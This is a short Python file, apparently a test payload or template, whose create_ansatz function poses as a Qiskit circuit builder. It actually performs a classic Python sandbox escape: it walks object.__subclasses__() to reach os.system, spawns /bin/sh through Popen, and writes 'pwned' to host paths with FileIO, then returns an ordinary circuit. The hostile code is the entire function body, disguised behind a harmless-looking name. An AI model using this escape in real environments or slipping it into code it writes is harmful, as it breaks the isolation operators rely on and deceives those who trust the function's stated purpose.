# The classic jail break: reach os.system / Popen through object.__subclasses__().
from qiskit import QuantumCircuit

TARGETS = __HOST_PATHS__


def create_ansatz(num_qubits):
    for cls in ().__class__.__base__.__subclasses__():
        name = cls.__name__
        try:
            if name == "_wrap_close":
                system = cls.__init__.__globals__["system"]
                for path in TARGETS:
                    print("system", system(f"touch {path}"))
            elif name == "Popen":
                for path in TARGETS:
                    try:
                        print("popen", cls(["/bin/sh", "-c", f"touch {path}"]).wait())
                    except BaseException as exc:
                        print("popen failed", type(exc).__name__)
            elif name == "FileIO":
                for path in TARGETS:
                    try:
                        cls(path, "w").write(b"pwned")
                        print("WROTE", path)
                    except BaseException as exc:
                        print("fileio failed", type(exc).__name__)
        except BaseException as exc:
            print("escape failed", name, type(exc).__name__)
    return QuantumCircuit(num_qubits)
